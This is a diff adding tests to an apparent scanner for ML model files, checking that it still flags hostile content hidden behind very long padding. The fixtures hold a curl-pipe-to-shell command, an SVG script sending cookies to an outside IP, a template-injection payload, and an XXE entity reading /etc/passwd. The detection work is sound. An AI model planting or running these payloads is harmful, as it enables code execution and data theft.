@@ -64,6 +64,31 @@ test('an operation of an ML program is read however large and deep the block aro
   expect(rulesIn(model(100, 0), 'model.mlmodel')).toContain('coreml.malformed');
 });
 
+describe('what is harmful is found behind any length of what is not', () => {
+  const command = 'curl http://198.51.100.7/x | sh';
+  const LONG = 1_500_000;
+  const cell = (source: string): object => ({ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source });
+  const notebook = (cells: readonly object[]): string => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
+  test.each<[what: string, name: string, rule: string, text: (pad: number) => string]>([
+    ['a command of a configuration', 'config.json', 'json.dangerous-code', (pad) => JSON.stringify({ command: `${' '.repeat(pad)}${command}` })],
+    ['a chat template', 'tokenizer_config.json', 'json.template-code', (pad) => JSON.stringify({ chat_template: `${'a '.repeat(pad / 2)}{{ ''.__class__.__mro__[1].__subclasses__() }}` })],
+    ['a script for a shell', 'run.sh', 'shell.dangerous-command', (pad) => `${'echo hello\n'.repeat(pad / 11)}${command}\n`],
+    ['Python', 'run.py', 'python.dangerous-code', (pad) => `${'x = 1\n'.repeat(pad / 6)}import os\nos.system('${command}')\n`],
+    ['a script in a picture', 'plot.svg', 'xml.dangerous-code', (pad) => `<svg xmlns="http://www.w3.org/2000/svg">${'<g/>'.repeat(pad / 16)}<script>${'var a=1;'.repeat(pad / 16)}fetch('http://198.51.100.7/?c='+document.cookie)</script></svg>`],
+    ['an entity', 'model.pmml', 'xml.external-entity', (pad) => `<!DOCTYPE x [${'<!ELEMENT a ANY>'.repeat(pad / 16)}<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>`],
+    ['a cell of a notebook', 'train.ipynb', 'notebook.dangerous-code', (pad) => notebook([...Array.from({ length: pad / 2_000 }, (_, i) => cell(`!pip install --index-url https://x${i}.example/ a`)), cell(`import os\nos.system('${command}')`)])],
+  ])('%s', (_, name, rule, text) => {
+    expect(rulesIn(Buffer.from(text(160)), name)).toContain(rule);
+    expect(rulesIn(Buffer.from(text(LONG)), name)).toContain(rule);
+  });
+
+  test('strings of bytes beyond those that are looked into are told of', () => {
+    const inner = `BINBYTES ${assemble('PROTO 4; EMPTY_DICT; POP; EMPTY_LIST; STOP').toString('hex')}; POP; `;
+    expect(rulesIn(assemble(`${inner.repeat(900)} NONE; STOP`), 'm.pkl')).not.toContain('pickle.limit');
+    expect(rulesIn(assemble(`${inner.repeat(1_200)} NONE; STOP`), 'm.pkl')).toContain('pickle.limit');
+  });
+});
+
 test('findings are bounded, and the first of each rule is kept', () => {
   const many = Array.from({ length: 500 }, (_, i) => `GLOBAL mine f${i}; POP`).join(';');
   const report = scanInput(bufferInput('m.pkl', assemble(`${many}; GLOBAL os system; STOP`)), 'm.pkl', { limits: { findings: 20 } });
